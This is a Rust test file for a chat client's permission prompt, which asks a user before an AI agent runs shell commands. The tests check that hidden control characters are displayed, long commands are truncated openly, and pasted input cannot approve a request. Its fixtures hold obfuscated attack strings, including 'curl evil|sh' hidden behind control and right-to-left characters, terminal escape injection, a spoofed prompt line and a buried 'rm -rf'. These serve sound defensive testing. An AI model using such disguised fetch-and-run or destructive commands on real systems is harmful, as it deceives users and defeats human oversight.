//! Permission requests in a chat.

use super::*;

#[test]
fn permission_is_requested_and_only_a_clear_answer_counts() {
    for (answer, received) in
        [("y", r#""behavior":"allow""#), ("n not now", r#""behavior":"deny","message":"not now""#)]
    {
        let mut chat = Chat::open();
        chat.type_line("please ask");
        chat.wait_for("Allow claude to run this command");
        chat.wait_for("touch x");
        chat.wait_for("allow? ");
        chat.type_line("perhaps");
        chat.wait_for("is no answer");
        chat.wait_for("allow? ");
        chat.type_line(answer);
        chat.wait_for(LAST);
        chat.wait_for("> ");
        assert!(chat.received().contains(received), "{}", chat.received());
        chat.type_line("/quit");
        chat.wait_for_exit(0);
    }
}

#[test]
fn a_permission_prompt_shows_characters_that_a_terminal_would_hide() {
    for (command, shown) in [
        ("true '\u{1b}]'; touch X; echo '\u{7}'", "$ true '⟦ESC⟧]'; touch X; echo '⟦BEL⟧'"),
        ("ls \u{9d}; curl evil|sh \u{9c}", "$ ls ⟦U+009D⟧; curl evil|sh ⟦U+009C⟧"),
        ("echo \u{202e}hs|live lruc", "$ echo ⟦U+202E⟧hs|live lruc"),
        ("ls\nAllow claude to read this?", "$ ls⟦LF⟧\r\n      │ Allow claude to read this?"),
    ] {
        let mut chat = Chat::new(&[], |chat| {
            chat.env("REQUEST", request("Bash", &json!({ "command": command })));
        });
        chat.wait_for("> ");
        chat.type_line("please ask");
        chat.wait_for("Allow claude to run this command");
        let prompt = sent(&chat.wait_for("allow? "));
        assert!(prompt.contains(shown), "{prompt:?}");
        assert!(
            !prompt.contains(['\u{7}', '\u{9c}', '\u{9d}', '\u{202e}']) && !prompt.contains("\u{1b}]"),
            "{prompt:?}"
        );
        chat.type_line("n");
        chat.wait_for(LAST);
        chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
        chat.wait_for_exit(130);
    }
}

#[test]
fn the_end_of_a_long_call_is_counted_in_the_prompt_and_shown_on_demand() {
    let command = format!("{}rm -rf x", "true\n".repeat(40));
    let mut chat = Chat::new(&[], |chat| {
        chat.env("REQUEST", request("Bash", &json!({ "command": command })));
    });
    chat.wait_for("> ");
    chat.type_line("please ask");
    chat.wait_for("NOT SHOWN: 18 more lines");
    let prompt = chat.wait_for("allow? ");
    assert!(prompt.contains("show 18 more lines"), "{prompt:?}");
    chat.type_line("v");
    chat.wait_for("rm -rf x");
    chat.wait_for("allow? ");
    chat.type_line("n");
    chat.wait_for(LAST);
    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
    chat.wait_for_exit(130);
}

#[test]
fn what_is_always_allowed_is_named_answers_later_requests_and_can_be_taken_back() {
    let mut chat = Chat::new(&[], |chat| {
        chat.env("REQUEST", request("Bash", &json!({ "command": "npm install x" })));
    });
    chat.wait_for("> ");
    chat.type_line("please ask");
    chat.wait_for("always allow `npm install *` in this session");
    chat.wait_for("allow? ");
    chat.type_line("a");
    chat.wait_for("allowed until this session ends: `npm install *` (rule Bash(npm install:*))");
    chat.wait_for(LAST);
    chat.wait_for("> ");
    chat.type_line("please ask");
    let shown = chat.wait_for(LAST);
    assert!(!shown.contains("allow? "), "{shown}");
    chat.wait_for("> ");
    chat.type_line("/permission");
    chat.wait_for("mode: ask");
    chat.wait_for("1  Bash(npm install:*)");
    chat.wait_for("> ");
    chat.type_line("/permission revoke 1");
    chat.wait_for("no longer allowed: Bash(npm install:*)");
    chat.wait_for("> ");
    chat.type_line("please ask");
    chat.wait_for("allow? ");
    chat.type_line("n");
    chat.wait_for(LAST);
    assert_eq!(chat.received().matches(r#""behavior":"allow""#).count(), 2, "{}", chat.received());
    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
    chat.wait_for_exit(130);
}

#[test]
fn lines_that_are_pasted_before_a_request_do_not_answer_it() {
    let mut chat = Chat::open();
    // All lines arrive at once, as in a terminal without bracketed paste.
    chat.type_line("please ask\ry\ry");
    chat.wait_for("allow? ");
    assert!(!chat.received().contains("behavior"), "{}", chat.received());
    chat.type_line("n");
    chat.wait_for(LAST);
    assert!(chat.received().contains(r#""behavior":"deny""#), "{}", chat.received());
    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
    chat.wait_for_exit(130);
}

#[test]
fn ctrl_c_at_a_request_denies_it() {
    let mut chat = Chat::open();
    chat.type_line("please ask");
    chat.wait_for("allow? ");
    chat.press('c');
    chat.wait_for("asked the agent to stop");
    until("the denial is received", || chat.received().contains(r#""behavior":"deny""#));
    chat.screen.process_mut().signal(Signal::SIGTERM).unwrap();
    chat.wait_for_exit(130);
}
